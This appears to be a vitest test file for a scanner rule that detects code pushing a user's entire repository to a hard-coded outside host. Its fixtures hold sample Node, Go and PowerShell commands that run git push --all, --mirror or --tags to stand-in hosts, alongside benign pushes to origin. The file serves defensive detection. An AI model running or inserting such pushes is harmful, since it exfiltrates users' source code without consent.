/**
 * The user's repository pushed to a host the script carries (scanner/rules/repository-push.ts),
 * in other languages and argv forms than the eval set's, beside pushes the user chose.
 */
import { describe, expect, it } from "vitest";
import { atMostMedium, rules, scanOf } from "./severity-asserts.js";

describe("every branch or the mirror pushed to a written-in host (SR-EXFIL-020)", () => {
  it.each([
    ["Node execFileSync with an argv array", { "tools/sync.js": "const { execFileSync } = require('child_process');\nexecFileSync('git', ['push', '--all', 'https://sync.repo-vault.dev/x.git']);\n" }],
    ["Go exec.Command to an scp-style address", { "main.go": 'package main\nimport "os/exec"\nfunc backup() { exec.Command("git", "push", "--mirror", "git@codekeep.dev:team/x.git").Run() }\n' }],
    ["PowerShell pushing all tags", { "release.ps1": "git push https://tags.release-cache.net/r.git --tags\n" }],
  ])("%s", (_, files) => {
    const s = scanOf(files);
    expect(rules(s)).toContain("SR-EXFIL-020");
    expect(s.decision).toBe("blocked");
  });
  it("honest: pushes to origin, to a remote the user passes, and to a local forge", () => {
    atMostMedium(scanOf({ "release.sh": '#!/bin/sh\ngit push origin "$BRANCH"\ngit push --tags origin\n' }));
    atMostMedium(scanOf({ "mirror.sh": '#!/bin/sh\n# usage: mirror.sh <remote-url>\ngit push --mirror "$1"\n' }));
    atMostMedium(scanOf({ "tools/sync.js": "const { execFileSync } = require('child_process');\nexecFileSync('git', ['push', '--all', process.argv[2]]);\n" }));
  });
});
